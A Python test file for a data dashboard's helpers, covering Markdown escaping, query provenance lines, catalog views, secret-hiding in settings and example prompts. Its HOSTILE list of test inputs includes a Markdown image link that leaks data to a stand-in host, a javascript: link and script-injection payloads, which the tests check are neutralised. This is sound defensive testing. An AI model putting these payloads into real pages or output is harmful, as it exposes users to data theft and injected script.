"""Pure helpers behind the pages: inert text, provenance, catalog views, examples."""

from __future__ import annotations

import re
from datetime import UTC, datetime

import pytest

from dashboard import charts, examples, explore, ui
from dashboard.catalog import get_catalog
from dashboard.config import parse_settings
from dashboard.store import Widget
from dashboard.text import visible

HOSTILE = [
    "![x](https://evil.example/leak?d=secret)",
    "[click](javascript:alert(1))",
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    ":red[alarm] :material/warning: $x^2$",
    "**bold** _it_ `code` # heading\n- list",
    "https://evil.example/auto-link",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_escape_markdown_leaves_no_active_syntax(text: str) -> None:
    escaped = ui.escape_markdown(text)
    # Every Markdown/HTML-significant character is preceded by a backslash.
    for match in re.finditer(r"[\[\]()<>!*_`#:$]", escaped):
        assert escaped[match.start() - 1] == "\\", (escaped, match.group())
    assert "\n" not in escaped
    # Removing the escapes (and invisible word joiners) gives back the flattened text.
    assert visible(escaped) == " ".join(text.split())


def test_escape_markdown_truncates() -> None:
    assert ui.escape_markdown("a" * 500, max_chars=10) == "a" * 9 + "…"


def _widget(**overrides) -> Widget:
    fields = {"id": 1, "user_id": 1, "prompt": "p", "sql_query": "SELECT 1", "content": None,
              "created_at": datetime.now(UTC), "title": None, "updated_at": None,
              "position": 1, "generation": {"generator": "openai", "model": "m",
                                            "timings_ms": {"execute": 42}}}
    return Widget(**{**fields, **overrides})


def test_provenance_line() -> None:
    spec = charts.ChartSpec(chart="bar", columns=["a", "b"], data=[["x", 1]], x="a", y=["b"],
                            row_count=1234, truncated=True,
                            refreshed_at="2026-11-25T10:00:00+00:00")
    line = ui.provenance(_widget(), spec)
    assert line == "1,234 rows · query 42 ms · refreshed 2026-11-25 10:00 UTC · m · truncated"
    one = charts.ChartSpec(chart="number", columns=["n"], data=[[5]], y=["n"], row_count=1)
    offline = _widget(generation={"generator": "offline", "timings_ms": {"execute": 3}})
    assert ui.provenance(offline, one) == "1 row · query 3 ms · offline"
    edited = _widget(generation={"generator": "offline", "sql_source": "edit",
                                 "timings_ms": {"execute": 7}})
    assert ui.provenance(edited, one) == "1 row · query 7 ms · your SQL · edited"
    static = ui.provenance(_widget(sql_query=None, generation=None), None)
    assert "no query" in static and len(static) < 80


def test_metric_definitions_come_from_comments(db) -> None:
    definitions = explore.metric_definitions(get_catalog(db))
    texts = " ".join(text for _, text in definitions)
    assert "Revenue = sum(order_items.quantity" in texts
    assert "Average order value = revenue" in texts


def test_sample_query_quotes_names() -> None:
    from dashboard.catalog import Table

    table = Table("demo", 'odd"name', None, 0, ())
    assert explore.sample_query(table, 5) == 'SELECT * FROM "demo"."odd""name" LIMIT 5'


def test_settings_rows_hide_secrets(db) -> None:
    settings = parse_settings({"OPENAI_API_KEY": "sk-very-secret",
                               "OPENAI_BASE_URL": "http://user:pw@llm.local:8080/v1"})
    rows = explore.settings_rows(settings, db)
    text = repr(rows)
    assert "sk-very-secret" not in text and "pw" not in text and "user:" not in text
    values = {row["setting"]: row["value"] for row in rows}
    assert values["API key"] == "set (hidden)"
    assert values["LLM server"] == "http://llm.local:8080"
    assert values["Generator"] == "openai"


def test_example_prompts_follow_the_catalog(db) -> None:
    prompts = examples.prompts_for(get_catalog(db))
    assert 4 <= len(prompts) <= 6
    assert any("revenue" in p.lower() for p in prompts)
    assert any("orders" in p.lower() for p in prompts)


@pytest.mark.slow
@pytest.mark.parametrize("which", ["db", "music_db"])
def test_every_example_prompt_builds_a_widget_offline(which: str, request) -> None:
    """Each empty-state example creates a widget in one click with the offline planner."""
    from dashboard import service, store

    database = request.getfixturevalue(which)
    prompts = examples.example_prompts(database)
    assert 4 <= len(prompts) <= 6
    user = store.get_or_create_user(database, f"examples-{which}")
    for prompt in prompts:
        widget = service.create(database, user, prompt,
                                generator=service.offline_generator(database))
        spec = charts.parse_content(widget.content)
        assert spec.row_count and spec.row_count > 0, prompt
    assert len(service.list_widgets(database, user)) == len(prompts)


def test_music_examples_talk_about_music(music_db) -> None:
    prompts = " ".join(examples.example_prompts(music_db)).lower()
    assert any(word in prompts for word in ("invoice", "track", "album", "genre", "artist"))
    assert "orders" not in prompts
